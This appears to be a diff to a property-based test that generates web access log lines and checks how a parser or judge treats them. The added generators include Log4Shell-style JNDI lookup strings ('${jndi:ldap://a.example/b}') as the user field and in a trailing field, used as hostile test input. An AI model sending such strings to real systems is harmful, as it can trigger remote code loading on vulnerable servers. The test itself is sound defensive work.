@@ -81,9 +81,11 @@ const line = tuple(
   constantFrom(200, 302, 401, 404, 500),
   constantFrom(...REFERERS),
   constantFrom(...AGENTS),
+  constantFrom('-', '-', 'ann', "o'neil", '${jndi:ldap://a.example/b}'),
+  constantFrom('', '', ' "10.0.0.1, 10.0.0.2"', ' 0.004 "a;b"', ' "${jndi:ldap://a.example/b}"'),
 ).map(
-  ([ip, method, target, status, referer, agent]) =>
-    `${ip} - - [02/Mar/2026:12:00:00 +0000] "${method} ${target} HTTP/1.1" ${status} 512 "${referer}" "${agent}"`,
+  ([ip, method, target, status, referer, agent, user, rest]) =>
+    `${ip} - ${user} [02/Mar/2026:12:00:00 +0000] "${method} ${target} HTTP/1.1" ${status} 512 "${referer}" "${agent}"${rest}`,
 );
 
 it('judges lines by their bytes as it does by their texts, and clients by all of their lines', async () => {
